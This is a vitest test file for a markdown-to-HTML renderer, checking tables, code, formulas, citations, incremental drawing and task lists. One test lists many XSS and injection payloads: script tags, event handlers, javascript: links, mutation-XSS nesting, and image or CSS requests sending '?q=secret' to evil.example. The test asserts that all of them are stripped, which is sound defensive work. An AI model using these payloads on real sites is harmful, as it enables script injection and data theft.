// @vitest-environment jsdom
import { expect, test } from "vitest";
import { blocks, Draft } from "../src/parts/markdown";

const html = (text: string, cited: number[] = []) =>
  blocks(text, cited)
    .map((block) => block.html)
    .join("");

function drawn(text: string, cited: number[] = []): HTMLElement {
  const place = document.createElement("div");
  place.innerHTML = html(text, cited);
  return place;
}

/** The text with a mark behind what ends `at`. */
function marked(text: string, at: number): HTMLElement {
  const place = document.createElement("div");
  const made = blocks(text, [], [{ at, reason: "number" }]);
  place.innerHTML = made.map((block) => block.html).join("");
  return place;
}

test("tables, lists and emphasis are drawn", () => {
  const place = drawn("| a | b | c |\n| --- | ---: | :-: |\n| **1** | 2 | 3 |\n\n- one\n- two");
  expect([...place.querySelectorAll("td")].map((cell) => cell.className)).toEqual(["", "right", "center"]);
  expect(place.querySelector("[style]")).toBeNull();
  expect(place.querySelector("td strong")?.textContent).toBe("1");
  expect(place.querySelectorAll("li").length).toBe(2);
});

test("code keeps its language and every character", () => {
  const pre = drawn("```python\nif a < b & c:\n    pass\n```").querySelector("pre");
  expect(pre?.getAttribute("data-language")).toBe("python");
  expect(pre?.textContent).toBe("if a < b & c:\n    pass\n");
});

test.each([
  ["$e^{x}$", "e^{x}", null],
  ["$$\n\\frac{1}{2}\n$$", "\\frac{1}{2}", "1"],
  ["\\(a<b\\)", "a<b", null],
])("the formula %s waits to be drawn", (text, source, display) => {
  const formula = drawn(text).querySelector(".math");
  expect(formula?.getAttribute("data-math")?.trim()).toBe(source);
  expect(formula?.getAttribute("data-display")).toBe(display);
});

test("numbers of passages can be chosen, others stay as they are", () => {
  const place = drawn("It is so [1], not so [7]. [1](https://example.org)", [1]);
  expect([...place.querySelectorAll("[data-cite]")].map((each) => each.textContent)).toEqual(["1"]);
  expect(place.textContent).toContain("[7]");
});

test("blocks that were there before are the same while more is written", () => {
  const first = blocks("One.\n\nTwo.");
  const second = blocks("One.\n\nTwo. And more.\n\nThree.");
  expect(second.length).toBe(3);
  expect(second[0]?.html).toBe(first[0]?.html);
});

const GROWING = [
  "# Tides\n\nOne.\nTwo #\n#three\n\n- a\n- b\n\n  c\n\n1\n\n1. x\n\n   y\n\n2. z\n\nEnd.\n",
  "para\n\n-\n\nb\n\n    code\n\n    more\n\n| a | b |\n| - | - |\n| 1 | 2 |\n\n```py\nx\n\ny\n```\nafter\n\n---\n\n> q\n\nw",
  "see [here]\n\nand\n\nthere\n\n[here]: https://a.example/b\n\nmore [here]\n\nend\n",
  "one\n\n\\[\na\n\nb\n\nc\n\n\\]\n\ntwo\n\n$$\nx\n\ny\n$$\n\n- \\[\n  q\n\nthree\n\nfour\n",
  "a\r\n\r\nb [1]\r\nc\n\nTitle\n===\n\n1. a\n\n1.b\n\n* * *\n\n+ x\n\n+\n\nz\n",
];

test.each(GROWING)("a text that grows by each of its letters is drawn as the whole: %j", (text) => {
  const draft = new Draft();
  for (let end = 1; end <= text.length; end += 1) {
    const now = text.slice(0, end);
    expect(draft.blocks(now, [1]).map((block) => block.written)).toEqual(
      blocks(now, [1]).map((block) => block.written),
    );
  }
});

test("what stands before is not read again, unless a mark falls into it or another text comes", () => {
  const draft = new Draft();
  const text = "One.\n\nTwo.\n\nThree.\n\nFour.";
  const first = draft.blocks(text);
  expect(draft.blocks(`${text} Five.`).slice(0, 3)).toEqual(first.slice(0, 3));
  expect(draft.blocks(`${text} Five.`)[0]).toBe(first[0]);
  const found = draft.blocks(text, [], [{ at: 4, reason: "number" }]);
  expect(found.map((block) => block.html)).toEqual(
    blocks(text, [], [{ at: 4, reason: "number" }]).map((block) => block.html),
  );
  expect(draft.blocks("Another.").map((block) => block.html)).toEqual(["<p>Another.</p>\n"]);
});

test.each([
  "<img src=x onerror=alert(1)>",
  "<script>alert(1)</script>",
  "<svg><script>alert(1)</script></svg>",
  '<a href="javascript:alert(1)">x</a>',
  "[x](javascript:alert(1))",
  "[x](  JaVaScRiPt:alert(1))",
  "[x](data:text/html,<script>alert(1)</script>)",
  "![x](https://evil.example/pixel.png)",
  "![x](data:image/svg+xml;base64,PHN2Zz4=)",
  "![x](/api/shutdown)",
  '```"><img src=x onerror=alert(1)>\nx\n```',
  "$<img src=x onerror=alert(1)>$",
  '[x](https://a.example "onmouseover=alert(1)")',
  "<style>body{display:none}</style>",
  "[a]: javascript:alert(1)\n\n[a]",
  '<https://a.example/"onclick=alert(1)>',
  "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
  "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
  "<svg><animate onbegin=alert(1) attributeName=x dur=1s></svg>",
  "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
  "<a id=x><base href=https://evil.example/><form action=https://evil.example/><input name=y></form></a>",
  '<p style="background:url(https://evil.example/?q=secret)">x</p>',
  "<link rel=stylesheet href=https://evil.example/a.css><meta http-equiv=refresh content='0;url=https://evil.example'>",
  "&lt;img src=x onerror=alert(1)&gt; &#60;script&#62;alert(1)&#60;/script&#62;",
  "[x](&#106;avascript:alert(1))",
  "[x](java\tscript:alert(1))",
  "[x](vbscript:msgbox(1)) [y](file:///etc/passwd) [z](blob:https://a.example/1)",
  "![secret](//evil.example/pixel.png?q=secret)",
  "![x][pixel]\n\n[pixel]: https://evil.example/p.png?q=secret",
  "[![x](https://evil.example/p.png)](javascript:alert(1))",
  "| <img src=x onerror=alert(1)> |\n| - |\n| [x](javascript:alert(1)) |",
  "```html\n<script>alert(1)</script>\n```",
  "```mermaid\ngraph TD; A[<img src=x onerror=alert(1)>]-->B\n```",
  "$\\href{javascript:alert(1)}{x} \\includegraphics{https://evil.example/p.png}$",
  "# <img src=x onerror=alert(1)>\n\n> <script>alert(1)</script>\n\n- <svg onload=alert(1)>",
])("nothing of %s can act or reach elsewhere", (text) => {
  const place = drawn(text, [1]);
  expect(
    place.querySelectorAll("script, style, svg, math, img, iframe, form, button, input, base, link, meta")
      .length,
  ).toBe(0);
  for (const element of place.querySelectorAll("*")) {
    for (const attribute of element.attributes) {
      expect(attribute.name).not.toMatch(/^on/);
      if (attribute.name === "href") expect(attribute.value).toMatch(/^(https?:|mailto:)/);
    }
  }
});

test.each([
  ["It is 5. More.", 8, "P"],
  ["- It is 5.\n- More.", 10, "LI"],
  ["| a |\n| - |\n| 5 |", 17, "TD"],
  ["```\nrun\n```\nMore.", 11, "DIV"],
])("a sentence without evidence is marked in %j", (text, at, tag) => {
  const place = marked(text, at);
  const marks = [...place.querySelectorAll("[data-reason=number]")];
  expect(marks.map((mark) => mark.parentElement?.tagName)).toEqual([tag]);
  expect(place.textContent).toContain(text.includes("More") ? "More." : "5");
});

test.each([
  ["Use `a. b` for 5.", 6, "CODE", "a. b"],
  ["So it is:\n\n    x = 5. Yes\n\nMore.", 21, "PRE", "x = 5. Yes\n"],
  ["1. Run:\n\n   ```sh\n   a 5\n\n   ```\n2. More.", 35, "PRE", "a 5\n\n"],
  ["- ```py\n  x = 5. Yes\n  ```\n- More.", 16, "PRE", "x = 5. Yes\n"],
  ["````\n```\nx = 5\n```\n````\nMore.", 14, "PRE", "```\nx = 5\n```\n"],
  ["```\none\ntwo\n```\nMore.", 9, "PRE", "one\ntwo\n"],
  ["~~~\none\n```\ntwo\n~~~\nMore.", 11, "PRE", "one\n```\ntwo\n"],
  ["```\n```\nMore.", 7, "PRE", ""],
])("a mark within the code of %j stands behind it, and the code is whole", (text, at, tag, code) => {
  const place = marked(text, at);
  expect(place.querySelector("code")?.textContent).toBe(code);
  expect(place.querySelectorAll("ol, ul").length).toBeLessThan(2);
  const mark = place.querySelector("[data-reason=number]") as Element;
  const before = place.querySelector(tag.toLowerCase()) as Element;
  expect(before.compareDocumentPosition(mark)).toBe(Node.DOCUMENT_POSITION_FOLLOWING);
  expect(place.textContent).not.toContain("\ue000");
});

test("the mark of code is drawn with it, not before what follows", () => {
  const made = blocks("```\none\n```\n\nMore.", [], [{ at: 11, reason: "number" }]);
  expect(made.map((block) => block.html.includes("data-reason"))).toEqual([true, false]);
});

test.each([
  ["It costs $5. And$ more.", 12, "5. And"],
  ["$$\na = 5. b\n$$\n\nMore.", 11, "a = 5. b"],
])("a mark within the formula of %j stands behind it", (text, at, formula) => {
  const place = marked(text, at);
  expect(place.querySelector(".math")?.getAttribute("data-math")?.trim()).toBe(formula);
  expect(place.querySelectorAll("[data-reason]").length).toBe(1);
});

test.each([
  ["| a |\n| - |\n| 5 \\|", 18],
  ["| a |\n| - |\n| 5 |\n", 18],
])("a table stays one with a mark at %j", (text, at) => {
  const place = marked(text, at);
  expect(place.querySelectorAll("tr").length).toBe(2);
  expect(place.querySelector("td [data-reason]")).not.toBeNull();
});

test("a mark of its own that a model writes is text", () => {
  expect(drawn("It is so [\ue0000].").querySelector("[data-reason]")).toBeNull();
});

test("tasks of a list are boxes, checked or not, and nothing else is", () => {
  const place = drawn("- [x] a\n- [ ] **b**\n- c [x]\n\n[x] d");
  expect([...place.querySelectorAll("li")].map((item) => item.textContent)).toEqual(["a", "b", "c [x]"]);
  expect([...place.querySelectorAll("li > .task")].map((box) => box.className)).toEqual([
    "task done",
    "task",
  ]);
  expect(place.querySelectorAll(".task").length).toBe(2);
});
